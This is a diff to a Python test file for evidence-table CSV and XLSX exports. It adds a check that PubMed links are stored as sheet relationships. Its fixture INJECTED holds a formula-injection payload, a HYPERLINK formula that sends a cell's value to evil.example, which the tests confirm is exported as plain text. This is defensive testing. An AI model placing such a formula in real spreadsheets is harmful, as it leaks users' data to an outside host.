@@ -14,6 +14,7 @@ from tests.marts.warehouse import add_run, add_study, at, query
 
 INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1, "Click for the full text")'
 MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 
 def warehouse(settings):
@@ -50,6 +51,12 @@ def test_evidence_table_csv_and_xlsx_keep_formula_titles_as_text(settings, tmp_p
     assert title.get("t") == "inlineStr" and title.find(f"{MAIN}is/{MAIN}t").text == INJECTED
     patients = cells[f"{chr(65 + EVIDENCE_COLUMNS.index('patients'))}2"]
     assert patients.get("t") is None and patients.find(f"{MAIN}v").text == "40"   # a number
+    # PubMed and DOI cells are clickable links (sheet relationships, not formulas).
+    link = sheet.find(f".//{MAIN}hyperlink[@ref='{chr(65 + EVIDENCE_COLUMNS.index('pubmed_url'))}2']")
+    with zipfile.ZipFile(tmp_path / "evidence_table.xlsx") as book:
+        rels = ElementTree.fromstring(book.read("xl/worksheets/_rels/sheet1.xml.rels"))
+    targets = {r.get("Id"): r.get("Target") for r in rels}
+    assert targets[link.get(f"{{{RELS}}}id")] == "https://pubmed.ncbi.nlm.nih.gov/1/"
 
 
 def test_included_records_as_ris_with_links(settings, tmp_path):
